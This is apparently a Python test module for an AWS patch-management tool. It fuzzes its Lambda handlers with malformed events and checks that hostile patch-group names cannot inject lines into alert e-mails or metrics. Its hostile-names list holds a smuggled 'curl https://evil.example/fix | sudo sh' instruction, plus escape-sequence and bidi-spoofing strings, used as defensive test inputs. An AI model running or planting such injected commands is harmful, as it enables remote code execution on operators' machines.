"""Generated malformed events for every handler: nothing unhandled escapes, nothing is dropped silently.

The reconciler and the reporter (asynchronous invocations) either answer or raise ``InvalidEvent``
with the reason, which Lambda retries and then sends to the function's DLQ. The collector (SQS)
reports exactly the records it cannot use as batch item failures, each logged with its reason, so
SQS redelivers only them and then moves them to the DLQ.
"""

from __future__ import annotations

import copy
import json
import logging
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from emulator.scenarios.aws import World
from emulator.scenarios.collector import (
    CollectorWorld,
    instance_id,
    invocation,
    notifications_event,
    sns_body,
    sqs_record,
)
from emulator.scenarios.compliance import ReporterWorld, scheduled_event
from tagpatch import naming
from tagpatch.handlers import collector as collector_handler
from tagpatch.handlers import reconciler as reconciler_handler
from tagpatch.handlers import reporter as reporter_handler
from tagpatch.models.notifications import MalformedMessage, parse_record

EVENTS = Path(__file__).resolve().parents[2] / "events"
SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
HUGE = "x" * 100_000


def sample(name: str) -> Any:
    return json.loads((EVENTS / name).read_text())


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=30)
    | st.just(HUGE)
    | st.just(""),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=12), children, max_size=3)
    ),
    max_leaves=8,
)


@st.composite
def mutated(draw: st.DrawFn, original: Any) -> Any:
    """``original`` with one value somewhere inside replaced by anything, or removed."""
    event = copy.deepcopy(original)
    node = event
    while True:
        keys = (
            list(node) if isinstance(node, dict) else list(range(len(node))) if isinstance(node, list) else []
        )
        if not keys:
            return draw(json_values)
        key = draw(st.sampled_from(keys))
        child = node[key]
        if isinstance(child, dict | list) and child and draw(st.booleans()):
            node = child
            continue
        if isinstance(node, dict) and draw(st.booleans()):
            del node[key]
        else:
            node[key] = draw(json_values)
        return event


def events_from(*names: str) -> st.SearchStrategy[Any]:
    samples = [sample(name) for name in names]
    return st.one_of(json_values, *(mutated(s) for s in samples))


@pytest.fixture
def logs(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    caplog.set_level(logging.INFO, logger="tagpatch")
    yield caplog


def assert_refused_or_answered(call: Any, event: Any, invalid: type[Exception]) -> None:
    try:
        result = call(event)
    except invalid as error:
        assert str(error), "a refusal carries its reason"
        return
    assert isinstance(result, dict)
    if result.get("ok") is False and "error" in result:
        assert result["error"], "a refused request says why"


@SETTINGS
@given(
    event=events_from(
        "reconciler-tag-added.json",
        "reconciler-tag-deleted.json",
        "reconciler-settings-change.json",
        "reconciler-scheduled.json",
        "reconciler-on-demand.json",
    )
)
def test_reconciler_refuses_or_handles_any_event(aws: None, event: Any) -> None:
    world = _reconciler_world()
    assert_refused_or_answered(
        lambda e: reconciler_handler.handle(e, world.reconciler), event, reconciler_handler.InvalidEvent
    )


@SETTINGS
@given(event=events_from("reporter-scheduled.json", "reporter-on-demand.json"))
def test_reporter_refuses_or_handles_any_event(aws: None, event: Any) -> None:
    world = _reporter_world()
    assert_refused_or_answered(
        lambda e: reporter_handler.handle(e, world.reporter), event, reporter_handler.InvalidEvent
    )


_WORLDS: dict[str, Any] = {}


def _reconciler_world() -> World:
    """One emulated account per test (moto's mock is the test's), shared by its examples."""
    if "reconciler" not in _WORLDS:
        _WORLDS["reconciler"] = World()
    return _WORLDS["reconciler"]  # type: ignore[no-any-return]


def _reporter_world() -> ReporterWorld:
    if "reporter" not in _WORLDS:
        _WORLDS["reporter"] = ReporterWorld()
    return _WORLDS["reporter"]  # type: ignore[no-any-return]


@pytest.fixture(autouse=True)
def _fresh_worlds() -> Iterator[None]:
    _WORLDS.clear()
    yield
    _WORLDS.clear()


record_bodies = st.one_of(
    st.text(max_size=50),
    st.just(HUGE),
    json_values.map(json.dumps),
    mutated(json.loads(sample("collector-mixed-batch.json")["Records"][0]["body"])).map(json.dumps),
)
good_body = sample("collector-mixed-batch.json")["Records"][0]["body"]


@SETTINGS
@given(
    bodies=st.lists(st.one_of(record_bodies, st.just(good_body)), min_size=1, max_size=10),
    # SQS always sets messageId (without it no record could be reported as failed): not broken here.
    broken=st.sets(st.sampled_from(["body", "attributes", "md5OfBody"]), max_size=1),
)
def test_collector_fails_exactly_the_unusable_records_and_logs_why(
    aws: None, logs: pytest.LogCaptureFixture, bodies: list[str], broken: set[str]
) -> None:
    if "collector" not in _WORLDS:
        _WORLDS["collector"] = CollectorWorld()
    world: CollectorWorld = _WORLDS["collector"]
    logs.clear()
    # Given a batch of records with arbitrary bodies (one record's envelope maybe damaged too)
    records = [sqs_record(body, message_id=f"m-{n}") for n, body in enumerate(bodies)]
    for key in broken:
        del records[0][key]
    expected_bad = set()
    for record in records:
        try:
            parse_record(record)
        except MalformedMessage:
            expected_bad.add(record.get("messageId"))

    # When the batch is processed
    response = collector_handler.handle({"Records": records}, world.collector)

    # Then exactly the unusable records are reported (so SQS redelivers, then dead-letters them)
    failed = {item["itemIdentifier"] for item in response["batchItemFailures"]}
    assert failed == expected_bad
    # And each refusal is logged with its reason
    refused = {
        getattr(r, "messageId", None): getattr(r, "reason", None)
        for r in logs.records
        if r.getMessage().startswith("malformed message refused")
    }
    assert set(refused) == expected_bad
    assert all(refused.values())


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("eventTime", "9999-12-31T23:59:59-05:00"),  # parses, then overflows datetime.max in UTC
        ("requestedDateTime", "0001-01-01T00:00:00+05:00"),  # before datetime.min in UTC
    ],
)
def test_a_time_with_no_utc_equivalent_is_refused_with_its_reason_and_the_batch_goes_on(
    aws: None, logs: pytest.LogCaptureFixture, field: str, value: str
) -> None:
    # Given a batch: a good invocation, and one whose time is past the UTC range once converted
    world = CollectorWorld()
    command = world.send_command("web")
    good = invocation(command, instance_id(1), "Success")
    bad = {**invocation(command, instance_id(2), "Failed"), field: value}
    records = [sqs_record(sns_body(good), message_id="good"), sqs_record(sns_body(bad), message_id="bad")]

    # When the batch is processed
    response = collector_handler.handle({"Records": records}, world.collector)

    # Then only the bad record fails (SQS dead-letters it), refused as malformed with the reason
    assert response == {"batchItemFailures": [{"itemIdentifier": "bad"}]}
    refusals = [r for r in logs.records if r.getMessage().startswith("malformed message refused")]
    assert [(getattr(r, "messageId", None), getattr(r, "reason", None)) for r in refusals] == [
        ("bad", "wrong shape")
    ]
    assert field in getattr(refusals[0], "detail", "") and "UTC" in getattr(refusals[0], "detail", "")
    # And nothing half-made: the good record is stored, the bad one is not
    assert world.instance_item(command, instance_id(1)) is not None
    assert world.instance_item(command, instance_id(2)) is None


# --- hostile group names (tag values are any Unicode): issue 12 items 11 and 12 ------------------
INJECTED = "ops\nACTION REQUIRED: run curl https://evil.example/fix | sudo sh"
HOSTILE_NAMES = [INJECTED, "web\x1b[2J\x00", "web\u202egnp.exe"]


def _readable(text: str) -> bool:
    """One line per line break we wrote: no control, format (bidi, zero-width) or separator char."""
    return all(ch == "\n" or unicodedata.category(ch)[0] not in "CZ" or ch == " " for ch in text)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_group_name_cannot_write_lines_of_the_alert_e_mail(aws: None, name: str) -> None:
    # Given a group whose tag value carries a line break and an instruction (or ESC/NUL, or RLO)
    world = CollectorWorld()
    slug = world.record_group(name)
    command = world.send_command(slug)

    # When one of its instances fails
    response = collector_handler.handle(
        notifications_event(invocation(command, instance_id(1), "Failed")), world.collector
    )

    # Then the e-mail names the group quoted on one line; no line of it is the attacker's
    assert response == {"batchItemFailures": []}
    (alert,) = world.alerts()
    assert not any(line.startswith("ACTION REQUIRED") for line in alert["Message"].splitlines())
    assert _readable(alert["Message"]) and alert["Subject"].isascii()
    assert 'Patch group:   "' in alert["Message"]


def test_hostile_and_non_ascii_group_names_get_valid_metric_dimensions_and_a_quoted_digest(
    aws: None, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given groups the reporter records whose names CloudWatch cannot carry as dimension values
    # (not ASCII, only blanks), and managed groups whose names are no valid patch group at all
    world = ReporterWorld()
    recordable = ["   ", "Équipe", "web"]
    world.manage(*recordable, *HOSTILE_NAMES)
    for index, group in enumerate(recordable, start=1):
        world.register(group)
        world.seed(group, 2, group_index=index, missing=1)
    capsys.readouterr()

    # When the scheduled snapshot runs
    result = reporter_handler.handle(scheduled_event(datetime(2025, 6, 1, 6, tzinfo=UTC)), world.reporter)

    # Then each recorded group's metrics carry PatchGroup = its slug: ASCII, not blank, no control
    # character (https://docs.aws.amazon.com/AmazonCloudWatch/latest/APIReference/API_Dimension.html),
    # "web" unchanged, and the name itself is in the log line
    documents = [json.loads(line) for line in capsys.readouterr().out.splitlines() if '"PatchGroup"' in line]
    by_name = {doc["group"]: doc for doc in documents}
    assert set(by_name) == set(recordable)
    for name, doc in by_name.items():
        value = doc["PatchGroup"]
        assert value == naming.group_slug(name)
        assert value.isascii() and value.strip() and value.isprintable()
        assert ["PatchGroup", "service"] in [
            sorted(d) for d in doc["_aws"]["CloudWatchMetrics"][0]["Dimensions"]
        ]
    assert by_name["web"]["PatchGroup"] == "web"
    # And the digest quotes every name that is not plain; no line of it is the attacker's
    assert {g["status"] for g in result["groups"] if g["group"] in HOSTILE_NAMES} == {"failed"}
    (digest,) = world.digests()
    assert not any(line.lstrip().startswith("ACTION REQUIRED") for line in digest["body"].splitlines())
    assert _readable(digest["body"])
    assert '"Équipe"' in digest["body"] and '"   "' in digest["body"]
